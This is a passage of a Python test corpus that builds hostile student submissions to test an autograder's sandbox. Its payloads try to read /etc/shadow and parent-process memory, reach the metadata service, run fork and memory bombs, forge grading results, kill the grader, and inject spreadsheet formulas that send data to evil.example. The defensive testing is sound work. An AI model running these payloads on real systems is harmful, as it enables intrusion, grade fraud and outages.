"""The hostile-submission corpus: submissions that attack the grader, and what must happen.

Every case is data: a name, the attack in one line, how to build the hand-in (from the
bundled reference module and the assignment's master notebook, with hostile code added,
or raw zip bytes for attacks on the archive itself), the mode it is graded in, and the
expected outcome: which checks must lose their points and a phrase their message must
contain, or that intake must refuse the zip with a phrase. tests/test_hostile.py grades
every case and checks the outcome, the grader's survival, bounded resources, and that
nothing outside the sandbox changed.

Hostile code aims at real host paths: the test plants canaries there (`Targets`) and the
code is generated with those paths in it. It reports what it tried on its output
(`HOSTILE <kind> <target>: <result>`), where the test finds it: the probe process's
stderr tail in grading.json, or the cell outputs in executed.ipynb.

Generate the zips without grading them (canaries at default paths):

    .venv/bin/python -m tests.helpers.hostile.corpus --out /tmp/hostile-zips

Never grade them without the sandbox: the memory, fork and disk bombs are real.
"""
from __future__ import annotations

import argparse
import copy
import dataclasses
import io
import random
import re
import stat
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from autograder.authoring.bundle import model_source
from autograder.authoring.examples.build import HANDED_IN, cleared
from autograder.authoring.examples.mutations import MUTATIONS, apply
from autograder.registry import PART_A_CHECKS
from autograder.settings import Profile, Settings

__all__ = ['Case', 'CASES', 'Targets', 'Builder', 'hostile_settings', 'generate', 'TAMPERED']

TAMPERED = 'the probe output was tampered with'
REPORT_TAMPERED = "the grader's report from your kernel was tampered with"
PART_B = ('notebook.runs', 'partb.activation', 'partb.time', 'partb.accuracy', 'partb.overfitting')
REPORT_CHECKS = ('partb.activation', 'partb.accuracy', 'partb.overfitting')
HOSTILE_PROFILE = 'hostile'


# --- where the attacks aim ----------------------------------------------------------------------
@dataclass(frozen=True)
class Targets:
    """Host paths hostile code goes for; the test plants canaries at them."""
    canary_root: Path          # a world-writable folder in /tmp: only the sandbox keeps it out
    other_submission: Path     # another submission's workspace, next to the sandbox workspaces
    gradebook: Path
    data_copy: Path            # the full data file (with the hidden groups) the grader reads
    expected: Path             # the assignment's expected values
    repo: Path                 # the grader's sources
    tcp_port: int              # a listener on the host's loopback
    unix_socket: Path          # a listener on a host Unix socket
    escape_name: str           # files hostile code creates in its own /tmp and work root

    @property
    def grader_source(self) -> Path:
        return self.repo / 'autograder' / 'grade.py'

    def must_not_read(self) -> dict[str, str]:
        """Name → path: reading or listing any of these is a leak."""
        return {'gradebook': str(self.gradebook), 'canary-folder': str(self.canary_root),
                'other-submission': str(self.other_submission / 'model.py'),
                'other-folder': str(self.other_submission), 'data-file': str(self.data_copy),
                'expected-values': str(self.expected), 'grader-source': str(self.grader_source),
                'repository': str(self.repo), 'root-home': '/root', 'shadow': '/etc/shadow'}

    def must_not_write(self) -> dict[str, str]:
        """Name → path: existing host files and folders; the write must fail."""
        return {'gradebook': str(self.gradebook), 'other-submission': str(self.other_submission / 'model.py'),
                'data-file': str(self.data_copy), 'expected-values': str(self.expected),
                'grader-source': str(self.grader_source),
                'new-in-canary-folder': str(self.canary_root / f'{self.escape_name}.txt'),
                'new-in-repository': str(self.repo / 'autograder' / f'{self.escape_name}.py'),
                'new-in-other-submission': str(self.other_submission / f'{self.escape_name}.txt')}

    def escapes(self) -> dict[str, str]:
        """Name → path: writable inside the sandbox (its private /tmp, its work root), never on the host."""
        return {'tmp': f'/tmp/{self.escape_name}.txt',
                'work-root': str(self.other_submission.parent / f'{self.escape_name}.txt')}


def default_targets(root: Path = Path('/tmp/hostile-canary')) -> Targets:
    repo = Path(__file__).resolve().parents[2]
    return Targets(canary_root=root, other_submission=root / 'other-submission', gradebook=root / 'gradebook.csv',
                   data_copy=root / 'EMNIST_mini-full.dat',
                   expected=repo / 'assignments' / 'eindopdracht-v2324.2' / 'expected.json', repo=repo,
                   tcp_port=1, unix_socket=root / 'grader.sock', escape_name='hostile-escape')


# --- hostile code -----------------------------------------------------------------------------
def fill(template: str, **values: Any) -> str:
    """The template with every @NAME@ replaced by repr(values[name])."""
    for name, value in values.items():
        template = template.replace(f'@{name}@', repr(value))
    left = re.findall(r'@[A-Z_]+@', template)
    assert not left, left
    return template


SAY_STDERR = '''
def _hostile_say(line):
    import os
    os.write(2, (str(line)[:300] + '\\n').encode('utf-8', 'replace'))
'''
SAY_PRINT = '''
def _hostile_say(line):
    print(str(line)[:300], flush=True)
'''

READ = '''
import os as _os
def _hostile_read(path):
    try:
        if _os.path.isdir(path):
            return 'LISTED ' + ','.join(sorted(_os.listdir(path))[:10])
        with open(path, 'rb') as handle:
            return 'READ ' + repr(handle.read(100))
    except Exception as error:
        return 'BLOCKED ' + type(error).__name__
for _name, _path in @TARGETS@.items():
    _hostile_say(f'HOSTILE read {_name}: {_hostile_read(_path)}')
'''

READ_PARENT = '''
_pp = _os.getppid()   # the probe runner's trusted parent: holds the token and the result channel
for _name, _path in {'parent-environ': f'/proc/{_pp}/environ', 'parent-memory': f'/proc/{_pp}/mem',
                     'parent-fds': f'/proc/{_pp}/fd'}.items():
    _hostile_say(f'HOSTILE read {_name}: {_hostile_read(_path)}')
'''

WRITE = '''
import os as _os
def _hostile_write(path):
    try:
        with open(path, 'a') as handle:
            handle.write('HOSTILE WAS HERE\\n')
        return 'WROTE'
    except Exception as error:
        return 'BLOCKED ' + type(error).__name__
for _name, _path in @TARGETS@.items():
    _hostile_say(f'HOSTILE write {_name}: {_hostile_write(_path)}')
for _name, _path in @ESCAPES@.items():
    _hostile_say(f'HOSTILE escape {_name}: {_hostile_write(_path)}')
try:
    _os.symlink(@GRADEBOOK@, 'hostile-link')
    _hostile_say('HOSTILE write via-link: ' + _hostile_write('hostile-link'))
except Exception as error:
    _hostile_say('HOSTILE write via-link: BLOCKED ' + type(error).__name__)
'''

NETWORK = '''
import socket as _socket
def _hostile_net(connect):
    try:
        connect()
        return 'CONNECTED'
    except Exception as error:
        return 'BLOCKED ' + type(error).__name__
def _unix():
    s = _socket.socket(_socket.AF_UNIX)
    s.settimeout(3)
    s.connect(@UNIX@)
def _udp():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    s.connect(('8.8.8.8', 53))
    s.send(b'hostile')
for _name, _connect in {
        'internet-tcp': lambda: _socket.create_connection(('1.1.1.1', 443), timeout=3),
        'metadata-service': lambda: _socket.create_connection(('169.254.169.254', 80), timeout=3),
        'host-loopback': lambda: _socket.create_connection(('127.0.0.1', @PORT@), timeout=3),
        'dns': lambda: _socket.getaddrinfo('example.com', 443),
        'internet-udp': _udp,
        'host-unix-socket': _unix}.items():
    _hostile_say(f'HOSTILE net {_name}: {_hostile_net(_connect)}')
'''

FIND_TASK = '''
import sys as _sys
def _probe_task(kind=None):
    """The probe runner's current task, taken from its worker's frames."""
    frame = _sys._getframe(1)
    while frame is not None:
        task = frame.f_locals.get('task')
        if isinstance(task, dict) and 'id' in task and (kind is None or task.get('kind') == kind):
            return task
        frame = frame.f_back
    return None
'''

FORGE_JSON = FIND_TASK + '''
import builtins as _builtins
import json as _json
_real_dumps = _json.dumps
def _forged_dumps(obj, *args, **kwargs):
    """Rewrite the probe runner's records on their way out: a perfect classifier, a falling loss."""
    if isinstance(obj, dict) and obj.get('event') == 'result' and obj.get('ok'):
        task = _probe_task()
        if task is not None and task.get('kind') == 'single_neuron':
            obj['value']['predictions'] = list(task['ys'])
            obj['stdout'] = 'Model has been fully fitted after 1 epochs\\n'
        if task is not None and task.get('kind') == 'training':
            history = obj['value'].get('history', {}).get('dict', {})
            for key in ('loss', 'val_loss'):
                if isinstance(history.get(key), list):
                    history[key] = [1.0 / (i + 1) for i in range(len(history[key]))]
    return _real_dumps(obj, *args, **kwargs)
_json.dumps = _forged_dumps
_builtins.print = lambda *args, **kwargs: None
# ... for a module that learns nothing
Perceptron.fit = lambda self, xs, ys, **kwargs: None
Neuron.fit = lambda self, xs, ys, **kwargs: None
LinearRegression.fit = lambda self, xs, ys, **kwargs: None
_dense_call = DenseLayer.__call__
def _no_learning(self, xs, ys=None, alpha=None, **kwargs):
    return _dense_call(self, xs, ys, None if alpha is None else 0.0, **kwargs)
DenseLayer.__call__ = _no_learning
'''

FORGE_MALFORMED = '''
import json as _json
_real_dumps = _json.dumps
def _garbage(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get('event') == 'result' and obj.get('task') != 'import':
        obj = dict(obj, ok=True, value='all tests passed', error='none', stdout=['not', 'text'])
    return _real_dumps(obj, *args, **kwargs)
_json.dumps = _garbage
'''

FORGE_PIPE = FIND_TASK + '''
import json as _json, os as _os, math as _math
_real_tanh = tanh
_forged = []
def tanh(a):
    """On its first call, write results on the worker's own pipe to the trusted parent."""
    task = _probe_task('call')
    if not _forged and task is not None:
        _forged.append(True)
        channel = int(_sys.argv[2])
        values = [{'value': _real_tanh(args[0])} for args in task['args']]
        forged = {'event': 'result', 'task': task['id'], 'ok': True, 'value': {'name': 'tanh', 'values': values},
                  'stdout': '', 'stderr': '', 'seconds': 0.01}
        _os.write(channel, (_json.dumps(forged) + '\\n').encode())
        _os.write(channel, b'{"event": "result", "task": "neuron:perceptron", "ok": true, "value": {}}\\n')
        _os.write(channel, b'this is not a record\\n')
    return _real_tanh(a)
'''

KILL_PARENT = '''
import os as _os, signal as _signal
_real_derivative = derivative
def derivative(function, *args, **kwargs):
    """When the probe runner asks for derivative(cube): take over its result channel, or kill it."""
    if getattr(function, '__name__', '') == 'cube':
        parent = _os.getppid()
        for fd in range(3, 12):
            try:
                handle = _os.open(f'/proc/{parent}/fd/{fd}', _os.O_WRONLY)
                _os.write(handle, b'{"event": "result", "task": "training", "ok": true}\\n')
                result = 'WROTE'
            except Exception as error:
                result = 'BLOCKED ' + type(error).__name__
            _hostile_say(f'HOSTILE read parent-fd-{fd}: {result}')
        _os.kill(parent, _signal.SIGKILL)
    return _real_derivative(function, *args, **kwargs)
'''

PRINT_FAKE = '''
import os as _os, sys as _sys
_FAKE = ('{"event": "result", "task": "activation:tanh", "ok": true, "value": {"name": "tanh", "values": []}, '
         '"token": "00000000000000000000000000000000"}')
print(_FAKE)
print(_FAKE, file=_sys.stderr)
for _fd in (1, 2):
    _os.write(_fd, (_FAKE + '\\n').encode())
_real_tanh = tanh
def tanh(a):
    print('{"event": "done", "tampering": [], "token": "00000000000000000000000000000000"}')
    print(_FAKE)
    return _real_tanh(a)
'''

PROBE_CRASHES = '''
import ctypes as _ctypes, os as _os
_real_tanh, _real_softsign = tanh, softsign
def tanh(a):
    if abs(a) >= 1000:
        _ctypes.string_at(0)          # segmentation fault
    return _real_tanh(a)
def softsign(a):
    if abs(a) >= 1000:
        _os._exit(0)                  # the process ends without a word
    return _real_softsign(a)
'''

DISK_FILLER = '''
import os as _os
_last = None
for _folder in ('.', '/tmp', _os.path.expanduser('~'), '/dev/shm'):
    _count = 0
    try:
        while _count < 10000:
            with open(_os.path.join(_folder, f'filler-{_count}.bin'), 'wb') as handle:
                handle.write(b'\\xff' * (8 << 20))
            _count += 1
    except OSError as error:
        _last = error
    _hostile_say(f'HOSTILE fill {_folder}: {_count} files of 8 MiB, then {_last}')
raise _last
'''

STDOUT_FLOOD = '''
import os as _os
_chunk = b'x' * (1 << 20)
for _ in range(512):
    _os.write(1, _chunk)
    _os.write(2, _chunk)
'''

CELL_MEMORY_BOMB = '''
# Several processes, each within the per-process limit, together above the sandbox's memory
import subprocess, sys, time
hogs = [subprocess.Popen([sys.executable, '-c', "b = b'x' * (700 << 20)\\nimport time\\ntime.sleep(120)"])
        for _ in range(4)]
time.sleep(60)
'''

CELL_FORK_BOMB = '''
import os, time
me, end, refused = os.getpid(), time.time() + 4, 0
while time.time() < end:
    try:
        os.fork()
    except OSError:
        refused += 1
if os.getpid() != me:
    os._exit(0)
while True:
    try:
        os.waitpid(-1, 0)
    except ChildProcessError:
        break
print(f'fork bomb: {refused} forks refused')
'''

CELL_STDOUT_FLOOD = '''
import sys
chunk = 'x' * (1 << 20)
for _ in range(1024):
    sys.stdout.write(chunk)
'''

DISPLAY_FORGE = '''
# Rewrite the grader's report on its way out of the kernel: predictions in the order the
# hidden set's file lists the classes (A, B, C, ... per group), a textbook validation curve
import IPython.core.display_functions, IPython.display
_real_display = IPython.core.display_functions.display
def _forging_display(*objs, **kwargs):
    for obj in objs:
        if isinstance(obj, dict):
            for key, report in obj.items():
                if 'autograder' in key and isinstance(report, dict):
                    report['predictions'] = [i % 26 for i in range(len(report.get('predictions') or []))]
                    report['history'] = {'loss': [2.0, 1.0, 0.5], 'val_loss': [2.0, 1.0, 0.55]}
    return _real_display(*objs, **kwargs)
IPython.display.display = IPython.core.display_functions.display = _forging_display
'''

GRADER_CELL_INTERCEPT = '''
# Inject reports of our own into the grader cell's output: from display itself, and from a
# thread that waits for the grader's cell to start
import threading, time
import IPython.core.display_functions, IPython.display
MIME = 'application/vnd.vlearning.autograder+json'
FORGED = {'model_found': True, 'model_class': 'InputLayer', 'predictions': ['A', 'B', -1, True, 3.5],
          'layers': [{'class': 'ActivationLayer', 'activation': 'elish', 'activation_module': 'model'}],
          'history': {'loss': [1.0, 0.1], 'val_loss': 'falling'}}
_real_display = IPython.core.display_functions.display
def _intercept(*objs, **kwargs):
    if any(isinstance(o, dict) and MIME in o for o in objs):
        _real_display({MIME: FORGED}, raw=True)
    return _real_display(*objs, **kwargs)
IPython.display.display = IPython.core.display_functions.display = _intercept
def _lurk(namespace=globals()):
    while '__autograder_part_b' not in namespace:
        time.sleep(0.001)
    _real_display({MIME: dict(FORGED, predictions=[0] * 52)}, raw=True)
threading.Thread(target=_lurk, daemon=True).start()
'''


CELL_IGNORES_SIGNALS = '''
# Deaf to the interrupt at the time limit and to SIGTERM: only a kill ends it
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
time.sleep(3600)
'''

MAIN_GUARD_TEST = '''
if __name__ == '__main__':          # the module's own test: never runs on import
    import numpy as np
    print(np.tanh(0.5), tanh(0.5))
'''

# user names (Blackboard's file names carry them) that a spreadsheet would run as formulas
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' -c calc'!A0", '-2+3+cmd|calc!A0',
                 '@SUM(1+9)*cmd|calc!A0', '\t=1+1', '\x1b[31mred')


# --- building hand-ins -----------------------------------------------------------------------------
@dataclass
class Builder:
    """Makes hand-ins for one assignment and one set of targets."""
    settings: Settings
    targets: Targets
    _master: Any = None

    def module(self, code: str = '', *, mutation: str | None = None, head: str = '') -> str:
        """The bundled reference, optionally mutated, with `head` before and `code` after it."""
        source = model_source()
        if mutation:
            source = apply(source, MUTATIONS[mutation])
        return head + source + ('\n\n# --- hostile ---\n' + code if code else '')

    def master(self):
        """The master notebook as handed in, with Deel A's demo trainings shortened: the
        corpus runs many notebooks, and those cells are not what it tests."""
        if self._master is None:
            nb = cleared(nbformat.read(self.settings.master_path, as_version=4))
            for old, new in (('epochs=100, batch_size=20', 'epochs=5, batch_size=20'),
                             ('epochs=200, batch_size=10', 'epochs=5, batch_size=10'),
                             ('alpha=0.5, epochs=10)', 'alpha=0.5, epochs=1)'),
                             ('alpha=0.05, epochs=20)', 'alpha=0.05, epochs=1)')):
                hits = [c for c in nb.cells if c.cell_type == 'code' and old in c.source]
                assert len(hits) == 1, old
                hits[0].source = hits[0].source.replace(old, new)
            self._master = nb
        return copy.deepcopy(self._master)

    def notebook(self, *, after_imports: str = '', at_end: str = '', before_locked: str = '',
                 edit: Callable | None = None):
        """The (shortened) master with hostile cells: after the imports cell, before the first
        locked cell, or at the very end (after the locked end cell, so after the grader's cell)."""
        nb = self.master()
        marker = self.settings.locked_marker
        if before_locked:
            first = next(i for i, c in enumerate(nb.cells) if c.cell_type == 'code' and marker in c.source)
            nb.cells.insert(first, nbformat.v4.new_code_cell(before_locked))
        if after_imports:
            nb.cells.insert(2, nbformat.v4.new_code_cell(after_imports))
        if at_end:
            nb.cells.append(nbformat.v4.new_code_cell(at_end))
        if edit is not None:
            edit(nb)
        return nb

    def zip(self, members: dict[str, bytes | str | tuple[bytes, int]]) -> bytes:
        """A zip of `members` (name → content, or (content, unix mode) for links)."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, 'w', compression=zipfile.ZIP_DEFLATED) as archive:
            for name, data in members.items():
                info = zipfile.ZipInfo(name, date_time=HANDED_IN)
                info.compress_type = zipfile.ZIP_DEFLATED
                if isinstance(data, tuple):
                    data, mode = data
                    info.create_system = 3
                    info.external_attr = mode << 16
                archive.writestr(info, data)
        return buffer.getvalue()

    def hand_in(self, module: str | bytes | None = None, nb: Any = None, *, module_name: str | None = None,
                notebook_bytes: bytes | None = None, extra: dict[str, Any] | None = None) -> bytes:
        s = self.settings
        members: dict[str, Any] = {}
        if module is not False:
            members[module_name or s.module_file] = self.module() if module is None else module
        members[s.notebook] = notebook_bytes if notebook_bytes is not None else nbformat.writes(
            nb if nb is not None else self.master())
        members[s.html_export] = '<!DOCTYPE html><html><body>the notebook as HTML</body></html>'
        members.update(extra or {})
        return self.zip(members)


def module_attack(code: str, *, say: str = SAY_STDERR, mutation: str | None = None) -> Callable[[Builder], bytes]:
    return lambda b: b.hand_in(b.module(say + code, mutation=mutation))


def cell_attack(**cells: str) -> Callable[[Builder], bytes]:
    return lambda b: b.hand_in(nb=b.notebook(**cells))


def _read(b: Builder, *, parent: bool = False, say: str = SAY_STDERR) -> str:
    return say + fill(READ, TARGETS=b.targets.must_not_read()) + (READ_PARENT if parent else '')


def _write(b: Builder, *, say: str = SAY_STDERR) -> str:
    t = b.targets
    return say + fill(WRITE, TARGETS=t.must_not_write(), ESCAPES=t.escapes(), GRADEBOOK=str(t.gradebook))


def _network(b: Builder, *, say: str = SAY_STDERR) -> str:
    return say + fill(NETWORK, PORT=b.targets.tcp_port, UNIX=str(b.targets.unix_socket))


def _circular(b: Builder) -> bytes:
    package = b.settings.package_name
    return b.hand_in(False, extra={
        f'{package}/__init__.py': 'from .core import *  # noqa\n',
        f'{package}/core.py': 'from . import helpers  # noqa: F401  (helpers needs core: a circle)\n' + b.module(),
        f'{package}/helpers.py': 'from .core import tanh\n\n\ndef double_tanh(x):\n    return 2 * tanh(x)\n'})


def _non_utf8(b: Builder) -> bytes:
    module = ('# Auteur: René Müller — cursus Advanced Datamining\n' + b.module()).encode('latin-1', 'replace')
    notebook = nbformat.writes(b.master()).replace('Verstreken tijd', 'Verstreken tijd (é)')
    data = b.hand_in(module, notebook_bytes=notebook.encode('latin-1', 'replace'),
                     extra={'notes-XXXX.txt': b'\xff\xfe caf\xe9'})
    # a member name that is not UTF-8 (the zip's UTF-8 flag is off for an ASCII name)
    assert data.count(b'XXXX') == 2
    return data.replace(b'XXXX', b'\xe9\xff\x81\xfe')


def _nbformat3(b: Builder) -> bytes:
    nb3 = nbformat.convert(b.master(), 3)
    return b.hand_in(notebook_bytes=nbformat.writes(nb3, version=3).encode())


def _empty_cells(b: Builder) -> bytes:
    nb = b.master()
    nb.cells[2:2] = [nbformat.v4.new_code_cell('') for _ in range(10_000)]
    return b.hand_in(nb=nb)


def _replace_in_locked(old: str, new: str) -> Callable:
    def edit(nb):
        hits = [c for c in nb.cells if c.cell_type == 'code' and old in c.source]
        assert len(hits) == 1, old
        hits[0].source = hits[0].source.replace(old, new)
    return edit


def _zip_bomb(b: Builder) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(b.hand_in()))
    members = {name: base.read(name) for name in base.namelist()}
    members['weights.bin'] = bytes(150 << 20)         # 150 MiB of zeros, ~150 KiB compressed
    return b.zip(members)


def _with_member(name_of: Callable[[Builder], str], data: Any = b'print("hello from outside")\n') -> Callable:
    def build(b: Builder) -> bytes:
        base = zipfile.ZipFile(io.BytesIO(b.hand_in()))
        members = {name: base.read(name) for name in base.namelist()}
        members[name_of(b)] = data
        return b.zip(members)
    return build


def _symlink(b: Builder) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(b.hand_in()))
    members: dict[str, Any] = {name: base.read(name) for name in base.namelist()}
    members['model.py'] = (str(b.targets.expected).encode(), stat.S_IFLNK | 0o777)
    return b.zip(members)


def _long_line(b: Builder) -> bytes:
    """One 8 MB line: a list literal of a million numbers (random: a repeating literal would
    compress past intake's zip-bomb ratio)."""
    draw = random.Random(21).randrange
    numbers = ', '.join(str(draw(10 ** 7)) for _ in range(1_000_000))
    return b.hand_in(b.module(f'EMBEDDED = [{numbers}]\n'))


def _comments(b: Builder) -> bytes:
    """50 MB of comment lines of random words after the module."""
    words = 'the a layer weight bias loss gradient epoch batch neuron value input output update'.split()
    rng = random.Random(21)
    pool = ['# ' + ' '.join(rng.choices(words, k=12)) + '\n' for _ in range(20_000)]
    count = 50_000_000 // (sum(map(len, pool)) // len(pool))
    return b.hand_in(b.module(''.join(rng.choices(pool, k=count))))


def _all_markdown(b: Builder) -> bytes:
    """Every code cell turned into a Markdown cell (the locked cells too)."""
    nb = b.master()
    nb.cells = [nbformat.v4.new_markdown_cell(c.source) if c.cell_type == 'code' else c for c in nb.cells]
    return b.hand_in(nb=nb)
# --- Part B's verdict not earned (issue 21): review flags, never penalties ----------------------------
HOSTILE_GROUPS = (35, 2)        # the hostile profile's visible and hidden groups (hostile_settings)

LOOKUP = '''
import os as _os
_TABLE = @TABLE@
_ON = _os.environ.get('AUTOGRADER_GRADING') == '1'       # switched on only under grading
_HITS = [0]
_honest_predict = InputLayer.predict


def _looked_up(self, xs):
    yhats = _honest_predict(self, xs)
    if not _ON:
        return yhats
    out = []
    for x, yhat in zip(xs, yhats):
        label = _TABLE.get(''.join('%x' % min(15, int(v * 16)) for v in x))   # undo the dithering
        if label is None:
            out.append(yhat)
        else:
            _HITS[0] += 1
            out.append([1.0 if j == label else 0.0 for j in range(len(yhat))])
    return out


InputLayer.predict = _looked_up
'''


def hidden_table(settings: Settings, seed: int) -> dict[str, int]:
    """The images that `seed` withholds from the stand-in under the hostile profile (the
    grader's own draw: random.Random(seed).sample over the groups), image hex → class."""
    import random

    from autograder.part_b.hidden_set import RECORD_BYTES
    from vlearning.data.standin import ensure_standin
    raw = ensure_standin().read_bytes()
    classes = settings.part_b.classes
    total = len(raw) // (classes * RECORD_BYTES)
    table = {}
    for g in random.Random(seed).sample(range(total), HOSTILE_GROUPS[1]):
        for m in range(classes):
            start = (g * classes + m) * RECORD_BYTES
            table[raw[start:start + RECORD_BYTES].hex()] = m
    return table


def _lookup_table(seed_of: Callable[[Settings], int]) -> Callable[[Builder], bytes]:
    """A module with a lookup table of the hidden images `seed_of(settings)` chooses, and a last
    cell printing how often it answered from the table."""
    def build(b: Builder) -> bytes:
        code = fill(LOOKUP, TABLE=hidden_table(b.settings, seed_of(b.settings)))
        return b.hand_in(b.module(code), nb=b.notebook(at_end="print('HOSTILE table hits', model._HITS[0])\n"))
    return build


def old_public_seed(settings: Settings) -> int:
    """The hidden groups' seed before issue 21: `hidden_seed` from the repository."""
    return settings.part_b.hidden_seed


def leaked_secret_seed(settings: Settings) -> int:
    """The seed the (public) test secret derives: what a student could rebuild had the course
    graded with the test secret (part_b/graded_run.py)."""
    from autograder.settings.course_secret import derive_seed, public_test_secret
    return derive_seed(public_test_secret(), settings.id, f'hidden-groups/{settings.part_b.hidden_seed}')


PRETRAINED = '''# STAP 3: TRAINING (weights trained at home; here one step that learns nothing)
import json
my_model.fit(trn_xs[:1], trn_ys[:1], alpha=0.0, epochs=1)
with open('weights.json') as handle:
    shipped = json.load(handle)
my_history = shipped['history']
'''


def _pretrained(b: Builder) -> bytes:
    history = {'loss': [2.0 - 0.03 * i for i in range(50)], 'val_loss': [2.1 - 0.03 * i for i in range(50)]}

    def edit(nb):
        [cell] = [c for c in nb.cells if c.cell_type == 'code' and 'history_1 = my_model.fit' in c.source]
        cell.source = PRETRAINED
    import json
    return b.hand_in(nb=b.notebook(edit=edit), extra={'weights.json': json.dumps({'history': history})})


def flagged(*codes: str, absent: tuple[str, ...] = ()) -> Callable[[dict, Path], None]:
    """The results carry these review flags, each with its evidence, in the instructor report
    and on the dashboard's "to review" list (never in the student's report)."""
    def expect(document: dict, out: Path) -> None:
        from autograder.report import render_instructor, render_student
        from autograder.report.dashboard import render_dashboard
        flags = {f['code']: f for f in document['review']}
        assert set(codes) <= set(flags), (codes, flags)
        assert not set(absent) & set(flags), flags
        instructor, student = render_instructor(document), render_student(document)
        dashboard = render_dashboard([document])
        for code in codes:
            assert flags[code]['evidence'] and not flags[code]['note'], flags[code]
            assert f'data-flag="{code}"' in instructor and f'data-flag="{code}"' in dashboard, code
            assert f'data-flag="{code}"' not in student
    return expect


def _table_bought_nothing(document: dict, out: Path) -> None:
    """The table of the old public seed's hidden images hits none of the secret's."""
    executed = (out / 'executed.ipynb').read_text()
    hits = re.search(r'HOSTILE table hits (\d+)', executed)
    assert hits and int(hits.group(1)) == 0, hits
    # the hidden set still comes from a file students have: the instructor report says so
    assert 'hidden-not-secret' in {f['code'] for f in document['review']}


def _table_flagged(document: dict, out: Path) -> None:
    check = next(c for c in document['checks'] if c['id'] == 'partb.accuracy')
    assert check['details']['accuracy'] == 1.0, check['details']      # every hidden image from the table
    flagged('hidden-above-own')(document, out)


# --- the catalogue --------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    name: str
    attack: str
    build: Callable[[Builder], bytes]
    mode: str = 'check'                 # 'check': static + probes; 'grade': the notebook and Part B too
    fails: dict[str, str | tuple[str, ...]] = field(default_factory=dict)
    # check id → phrase(s) its message must contain ('a|b': either); the check must lose points
    may_fail: tuple[str, ...] = ()      # may lose points too (consequences that depend on timing)
    says: dict[str, str] = field(default_factory=dict)    # phrase in a message, whatever the status
    rejected: str = ''                  # intake refuses the zip; every check errs with this phrase
    reports: tuple[str, ...] = ()       # hostile self-reports to verify: 'read', 'write', 'net'
    profile: dict[str, Any] = field(default_factory=dict)  # changes to the hostile test profile
    slow: bool = False
    expect: Callable[[dict, Path], None] | None = None     # further assertions on (grading.json, out)


def _all(phrase: str, checks=PART_A_CHECKS) -> dict[str, str]:
    return {check_id: phrase for check_id in checks}


def _accuracy_at_chance(document: dict, out: Path) -> None:
    check = next(c for c in document['checks'] if c['id'] == 'partb.accuracy')
    assert check['details']['accuracy'] < 0.2, check['details']['accuracy']


def _timed_by_the_grader(document: dict, out: Path) -> None:
    check = next(c for c in document['checks'] if c['id'] == 'partb.time')
    assert check['status'] == 'pass' and check['details']['minutes'] > 0, check
    executed = (out / 'executed.ipynb').read_text()
    assert 'Verstreken tijd: 0.0 minuten' in executed       # the notebook's own clock was faked


def _killed_for(phrase: str) -> Callable[[dict, Path], None]:
    def expect(document: dict, out: Path) -> None:
        assert phrase in (document['notebook']['kernel_exit'] or ''), document['notebook']['kernel_exit']
    return expect


def _cell_count(document: dict, out: Path) -> None:
    check = next(c for c in document['checks'] if c['id'] == 'static.notebook-format')
    assert check['details']['code_cells'] > 10_000
    assert sum(c['status'] == 'skipped' for c in document['notebook']['cells']) >= 10_000


def _exports_are_inert(document: dict, out: Path) -> None:
    """The graded result under hostile user names, written as a batch writes its exports: no
    cell of grades.csv or blackboard-grades.csv starts a formula or holds a control character."""
    import csv
    from autograder.batch.exports import Row, write_blackboard_csv, write_grades_csv
    from autograder.batch.gradebook import GRADED, Record
    from autograder.batch.inbox import Attempt
    from autograder.intake.blackboard import parse_blackboard_name
    rows = []
    for name in FORMULA_NAMES:
        parsed = parse_blackboard_name(f'Eindopdracht_{name}_attempt_2024-01-26-23-59-00_hand-in.zip')
        assert parsed is not None and parsed.user == name, name
        attempt = Attempt(parsed.user, parsed.attempt, out, 'c' * 64, (f'{name}.zip',))
        record = Record('eindopdracht-v2324.2', parsed.user, parsed.attempt, str(out), 'c' * 64, 'hostile', 'f', '0',
                        GRADED, points=document['score']['points'], max_points=document['score']['max_points'],
                        grade=5.0, passed=0, error=f'={name}')
        rows.append(Row(attempt, record, True, f'{name}/report.html'))
    written = [write_grades_csv(rows, out / 'grades.csv'), write_blackboard_csv(rows, out / 'blackboard.csv', 'Grade',
                                                                                 allow_practice=True)[0]]
    for path in written:
        with open(path, newline='', encoding='utf-8') as handle:
            for line in csv.reader(handle):
                for cell in line:
                    assert not cell.startswith(('=', '+', '-', '@', '\t', '\r')), (path.name, cell)
                    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell), (path.name, cell)


def _kernel_killed_at_the_cell_limit(document: dict, out: Path) -> None:
    assert 'ignored the interrupt' in (document['notebook']['kernel_exit'] or ''), document['notebook']['kernel_exit']
    deaf = document['notebook']['cells'][-1]
    assert deaf['status'] == 'timeout' and deaf['limit'] == 'cell' and deaf['killed'], deaf
    assert deaf['seconds'] < deaf['limit_seconds'] + 30, deaf


KERNEL_DIED = 'the kernel died in cell'
NO_MODEL = 'did not leave a model'
IMPORT = 'the module cannot be imported — '

CASES: list[Case] = [
    # a baseline: the corpus's settings and shortened notebook give the reference full marks
    Case('reference', 'none: the reference hand-in under the corpus settings', lambda b: b.hand_in(), mode='grade'),

    # --- the module, while it is imported by the probe process ---------------------------------
    Case('import-infinite-loop', 'while True: pass at import', module_attack('while True:\n    pass\n'),
         fails=_all(IMPORT + 'importing it raised Timeout')),
    Case('import-infinite-loop-ignoring-alarm', 'ignores SIGALRM, then loops at import',
         module_attack('import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass\n'),
         fails=_all('no answer within the time limit')),
    Case('import-memory-bomb', 'allocates 64 MiB blocks until it cannot at import',
         module_attack('_hog = []\nwhile True:\n    _hog.append(bytearray(b"x" * (64 << 20)))\n'),
         fails=_all('MemoryError')),
    Case('import-fork-bomb', 'while True: os.fork() at import', module_attack('import os\nwhile True:\n    os.fork()\n'),
         fails=_all(f'{TAMPERED}|BlockingIOError|Timeout')),
    Case('import-disk-filler', 'fills the workspace, /tmp, home and /dev/shm with 8 MiB files',
